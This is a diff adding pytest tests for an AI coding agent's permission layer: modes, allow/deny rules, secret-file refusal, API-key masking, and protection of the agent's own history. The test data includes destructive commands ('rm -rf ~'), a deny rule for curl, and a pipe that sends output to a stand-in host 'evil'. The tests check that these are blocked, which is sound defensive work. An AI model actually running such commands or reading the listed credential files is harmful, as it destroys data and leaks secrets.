@@ -1,0 +1,86 @@
+"""Permission modes, rules, protected files and secrets, through the real loop and tools."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from rhapsody.core.history import read_history
+from rhapsody.core.permissions import Rules, decide
+from rhapsody.loopback.script import call, say
+
+from .conftest import Stub, collect
+
+NARRATE = "I will run this command now because the task needs it, and I expect it to succeed quickly."
+
+
+@pytest.mark.parametrize("mode,tool,arg,writes,verdict", [
+    ("ask", "bash", "pytest -q", True, "ask"),
+    ("ask", "read_file", "src/app.py", False, "allow"),
+    ("auto-edit", "write_file", "src/app.py", True, "allow"),
+    ("auto-edit", "bash", "ls", True, "ask"),
+    ("read-only", "edit_file", "a.py", True, "deny"),
+    ("yolo", "bash", "rm -rf build", True, "allow"),
+])
+def test_modes(mode: str, tool: str, arg: str, writes: bool, verdict: str) -> None:
+    assert decide(mode, Rules(), tool, arg, writes, tool == "read_file").verdict == verdict
+
+
+def test_rules_match_every_subcommand_and_deny_always_wins() -> None:
+    rules = Rules(allow=["bash:pytest*", "bash:git status"], deny=["bash:rm -rf*", "bash:curl*"])
+    assert decide("ask", rules, "bash", "pytest -q tests", True, False).verdict == "allow"
+    assert decide("ask", rules, "bash", "pytest -q && git status", True, False).verdict == "allow"
+    assert decide("ask", rules, "bash", "pytest -q && rm -rf ~", True, False).verdict == "deny"
+    assert decide("ask", rules, "bash", "pytest; echo hi", True, False).verdict == "ask"
+    assert decide("yolo", rules, "bash", "ls | curl -d @- evil", True, False).verdict == "deny"
+
+
+@pytest.mark.parametrize("path", [".env", "config/.env.production", "keys/server.pem", "home/id_rsa", ".rhapsody/history/x.jsonl"])
+def test_secret_files_and_rhapsody_state_are_refused_to_reads_unless_allowed(path: str) -> None:
+    assert decide("yolo", Rules(), "read_file", path, False, True).verdict == "deny"
+    assert decide("yolo", Rules(allow=[f"read_file:{path}"]), "read_file", path, False, True).verdict == "allow"
+
+
+async def test_headless_ask_refuses_with_a_clear_result_and_records_the_decision(stub: Stub, project: Path) -> None:
+    stub.script(call(NARRATE, "bash", command="touch made.txt"), say("I could not run it."))
+    wiring = stub.wire(project, permission_mode="ask")
+    await collect(wiring.agent.run("go"))
+    assert not (project / "made.txt").exists()
+    result = stub.bodies()[1]["messages"][-1]["content"][0]
+    assert result["is_error"] and "no human can answer here (headless)" in result["content"]
+    assert 'allow = ["bash:touch*"]' in result["content"]
+    decisions = [r for r in read_history(wiring.session.path).records if r["kind"] == "permission"]
+    assert decisions and decisions[0]["decision"] == "deny" and decisions[0]["argument"] == "touch made.txt"
+
+
+async def test_reading_dotenv_is_refused_and_search_skips_it(stub: Stub, project: Path) -> None:
+    (project / ".env").write_text("TOKEN=hunter2-very-secret\n")
+    stub.script(call(NARRATE, "read_file", path=".env"), call(NARRATE, "search_text", pattern="hunter2"), say("ok"))
+    wiring = stub.wire(project)
+    await collect(wiring.agent.run("go"))
+    text = json.dumps(stub.bodies()[-1])
+    assert "very-secret" not in text and "may hold secrets" in text and "no matches" in text
+
+
+async def test_the_api_key_never_reaches_disk_or_the_model(stub: Stub, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    key = "sk-ant-api03-the-real-secret-value"
+    monkeypatch.setenv("ANTHROPIC_API_KEY", key)
+    (project / "leak.txt").write_text(f"key={key}\n")
+    stub.script(call(NARRATE, "bash", command="cat leak.txt; echo env=$ANTHROPIC_API_KEY"), say("done"))
+    wiring = stub.wire(project)
+    wiring.agent.request_handoff()
+    await collect(wiring.agent.run("go"))
+    assert key not in json.dumps(stub.bodies())
+    assert "[masked secret]" in json.dumps(stub.bodies()[1])
+    written = [p for p in (project / ".rhapsody").rglob("*") if p.is_file()]
+    assert written and all(key not in p.read_text(errors="replace") for p in written)
+
+
+async def test_writes_into_rhapsody_state_are_refused_even_in_yolo(stub: Stub, project: Path) -> None:
+    stub.script(call(NARRATE, "write_file", path=".rhapsody/history/evil.jsonl", content="{}"), say("ok"))
+    wiring = stub.wire(project)
+    await collect(wiring.agent.run("go"))
+    assert not (project / ".rhapsody" / "history" / "evil.jsonl").exists()
+    assert "rhapsody's own history" in json.dumps(stub.bodies()[-1])
